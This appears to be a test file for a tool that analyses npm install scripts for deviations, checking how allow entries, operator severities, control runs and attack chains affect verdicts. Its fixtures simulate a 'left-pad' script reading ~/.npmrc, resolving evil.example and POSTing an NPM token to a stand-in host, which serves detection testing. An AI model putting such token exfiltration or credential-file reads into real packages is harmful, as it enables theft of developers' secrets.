import { expect, test } from "bun:test";
import type { AllowEntry } from "../../../server/analysis/types.ts";
import { analyse, baselineOf } from "./analysing.ts";
import { HOME, installStory, NPM_TOKEN } from "./story.ts";

const EVIL = { address: "203.0.113.9", port: 443 };
const allowing = (kind: AllowEntry["kind"], value: string): AllowEntry => ({ kind, value, actor: null });

test("an allow entry is compared with the value that the operator's rules wrote", () => {
  const before = installStory();
  before.script("left-pad");
  const baseline = baselineOf(analyse(before, { baseline: null }));
  const story = installStory();
  story.write(story.script("left-pad"), "/var/cache/part-7");
  const rules = [{ id: "parts", match: "/var/cache/part-*", as: "/var/cache/part-<N>" }];
  const allow = [allowing("path", "/var/cache/part-<N>")];
  expect(analyse(story, { baseline, allow }).verdict).toBe("deviant");
  const { verdict, deviations, allowed } = analyse(story, { baseline, allow, rules });
  expect([verdict, deviations]).toEqual(["clean", []]);
  expect(allowed).toMatchObject([{ category: "fs_new_path_write", value: "/var/cache/part-<N>" }]);
});

test("no entry and no severity of an operator's makes a leak less, and a control run does not either", () => {
  const story = installStory();
  const script = story.script("left-pad");
  story.socket(script, "connect", EVIL);
  story.send(script, EVIL, `POST / HTTP/1.1\r\nHost: evil.example\r\n\r\n${NPM_TOKEN}`);
  const alone = analyse(story).deviations.find(({ category }) => category === "canary_leak")!;
  const control = { version: "1.3.0", fingerprints: [alone] };
  const severities = { canary_leak: "low" } as const;
  const { deviations } = analyse(story, { allow: [allowing("cidr", "203.0.113.0/24")], severities, control });
  expect(deviations.find(({ category }) => category === "canary_leak")).toMatchObject({
    severity: "critical",
    drift: false,
  });
});

test("the operator's severity gives way to drift, and a chain to neither", () => {
  const story = installStory();
  const script = story.script("left-pad");
  story.write(script, "/tmp/x");
  story.open(script, `${HOME}/.npmrc`);
  story.resolve(script, "evil.example", EVIL.address);
  const severities = { fs_new_path_write: "critical", net_new_dns: "low", cred_new_access: "low" } as const;
  const written = { actor: "script:left-pad", category: "fs_new_path_write", value: "/tmp/x" } as const;
  const control = { version: "1.3.0", fingerprints: [written] };
  const told = (more: Parameters<typeof analyse>[1]) =>
    Object.fromEntries(analyse(story, more).deviations.map(({ category, severity }) => [category, severity]));
  expect(told({ severities })).toMatchObject({ fs_new_path_write: "critical" });
  expect(told({ severities, control })).toMatchObject({ fs_new_path_write: "low" });
  expect(told({ severities })).toMatchObject({ net_new_dns: "critical", cred_new_access: "critical" });
});

test("what is allowed is no step of a chain", () => {
  const story = installStory();
  const script = story.script("left-pad");
  story.open(script, `${HOME}/.npmrc`);
  story.resolve(script, "evil.example", EVIL.address);
  expect(analyse(story).deviations.some(({ chain }) => chain !== null)).toBe(true);
  const { deviations } = analyse(story, { allow: [allowing("dns", "evil.example")] });
  expect(deviations.map(({ category }) => category)).toContain("cred_new_access");
  expect(deviations.filter(({ chain }) => chain !== null)).toEqual([]);
});
